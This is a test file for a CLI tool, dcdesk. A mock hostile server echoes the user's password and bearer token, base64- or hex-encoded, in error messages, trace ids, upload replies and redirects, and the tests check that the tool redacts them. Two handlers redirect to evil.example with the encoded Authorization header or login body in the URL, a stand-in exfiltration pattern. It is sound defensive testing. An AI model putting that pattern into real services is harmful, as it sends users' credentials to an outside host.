/**
 * A hostile service that echoes the secrets base64- or hex-encoded inside longer texts (a whole
 * `Authorization: Bearer …` header, the login body, `user:password`, in a Problem, a trace id, a
 * redirect's Location, an upload's answer), run through the built dcdesk. What it printed and
 * every file of its data folder are decoded wherever they hold base64 or hex, and searched.
 */
import { existsSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runBin } from '../support/cli';
import { tempDir } from '../support/files';
import { decodedRuns, findSecrets, folderFiles, holdsPieceOf } from '../support/secret-scan';

const password = 'Zq8#Lmw2Vx!pR4sT';
const token = 'tokQ7ZxV93mPlk2aWbn0Rts5Yu';
const b64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');

type Answer = (response: ServerResponse, body: string, authorization: string) => void;
const send = (
  response: ServerResponse,
  status: number,
  body: unknown,
  type = 'application/json',
) => {
  response.writeHead(status, { 'Content-Type': type });
  response.end(typeof body === 'string' ? body : JSON.stringify(body));
};
const problem = (response: ServerResponse, detail: string, traceId = 'trace-1') =>
  send(response, 400, { title: 'Bad', status: 400, detail, traceId }, 'application/problem+json');
const grant: Answer = (response) => send(response, 200, { token, expiresIn: 3600 });

let onAuth: Answer = grant;
let onInsights: Answer = (response) => send(response, 204, '');
let onUpload: Answer = (response) => send(response, 200, 'received');

const server = createServer((request: IncomingMessage, response) => {
  let body = '';
  request.on('data', (chunk: Buffer) => (body += chunk.toString()));
  request.on('end', () => {
    const route = request.url ?? '';
    const answer = route.endsWith('/authentication')
      ? onAuth
      : route.endsWith('/insights')
        ? onInsights
        : onUpload;
    answer(response, body, request.headers.authorization ?? '');
  });
});
let url = '';
const work = tempDir('dcdesk-encoded-echo-cli-');
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`;
});
afterAll(() => {
  server.close();
  work.remove();
});

let runs = 0;
/** Runs dcdesk with a data folder of its own; gives what it printed and the folder's files. */
async function run(args: string[]) {
  runs += 1;
  const dataDir = work.file(`data-${String(runs)}`);
  const done = await runBin([...args, '--base-url', url], {
    DCDESK_USERNAME: 'analyst',
    DCDESK_PASSWORD: password,
    DCDESK_DATA_DIR: dataDir,
  });
  const files = existsSync(dataDir) ? folderFiles(dataDir) : [];
  return { ...done, printed: `${done.stdout}\n${done.stderr}`, files };
}

const lookup = [
  'lookup',
  '--session-id',
  'abcdefghijklmnopqrstuvwxyz',
  '--external-id',
  'ext000001',
  '--cpf',
  '529.982.247-25',
  '--email',
  'maria.silva+vip@exemplo.com.br',
];

/** What a reader could decode of the secrets from `text`. */
const decodedSecrets = (text: string) => decodedRuns(text).filter(holdsPieceOf(password, token));

describe('dcdesk and a service echoing the secrets encoded', () => {
  const lookups: Record<string, Answer> = {
    'the Authorization header in base64': (response, _body, authorization) =>
      problem(response, `Header was ${b64(authorization)}`),
    'the token in hex': (response, _body, authorization) =>
      problem(response, `token hex ${hex(authorization.replace(/^Bearer /, ''))}`),
    'the header in base64 as the trace id': (response, _body, authorization) =>
      problem(response, 'x', b64(authorization)),
    'the header in base64 in a redirect': (response, _body, authorization) => {
      response.writeHead(307, { Location: `https://evil.example/x?t=${b64(authorization)}` });
      response.end();
    },
  };
  const logins: Record<string, Answer> = {
    'user:password in base64': (response, body) => {
      const sent = JSON.parse(body) as { username: string; password: string };
      send(response, 400, { message: `Tried Basic ${b64(`${sent.username}:${sent.password}`)}` });
    },
    'the login body in base64': (response, body) =>
      send(response, 400, { message: `Invalid credentials for request ${b64(body)}` }),
    'the password in hex': (response, body) =>
      send(response, 400, {
        message: `bad password ${hex((JSON.parse(body) as { password: string }).password)}`,
      }),
    'the login body in base64 in a redirect': (response, body) => {
      response.writeHead(302, { Location: `https://evil.example/login?x=${b64(body)}` });
      response.end();
    },
  };

  /** Nothing of the secrets printed or stored, in any encoding; and the mark says why. */
  function expectHidden(done: Awaited<ReturnType<typeof run>>) {
    expect(done.printed).toContain('[redacted]');
    expect(decodedSecrets(done.printed)).toEqual([]);
    for (const file of done.files)
      expect(decodedSecrets(file.bytes.toString('latin1')), file.name).toEqual([]);
    const found = Object.entries(findSecrets(done.files, [password, token]));
    expect(found.filter(([, count]) => count > 0)).toEqual([]);
  }

  for (const [name, answer] of Object.entries(lookups)) {
    it(`hides ${name}, answering a lookup`, async () => {
      onAuth = grant;
      onInsights = answer;
      const done = await run(lookup);
      expect(done.code).not.toBe(0);
      expectHidden(done);
    });
  }

  for (const [name, answer] of Object.entries(logins)) {
    it(`hides ${name}, refusing the sign-in`, async () => {
      onAuth = answer;
      const done = await run(['auth']);
      expect(done.code).not.toBe(0);
      expectHidden(done);
    });
  }

  it("hides the header in base64 in an upload's answer, kept in the ledger", async () => {
    onAuth = grant;
    onUpload = (response, _body, authorization) =>
      send(response, 200, `received with ${b64(authorization)}`, 'text/plain');
    const file = work.file('answers.csv');
    writeFileSync(file, 'ID Transacional,DeviceId,Resultado\r\next000001,dev-1,Suspeito\r\n');
    const done = await run(['upload', file, '--yes', '--unseen-devices']);
    expect(done.code, done.printed).toBe(0);
    const ledger = await runBin(['uploads', '--json'], {
      DCDESK_DATA_DIR: work.file(`data-${String(runs)}`),
    });
    expectHidden({ ...done, printed: `${done.printed}\n${ledger.stdout}` });
  });
});
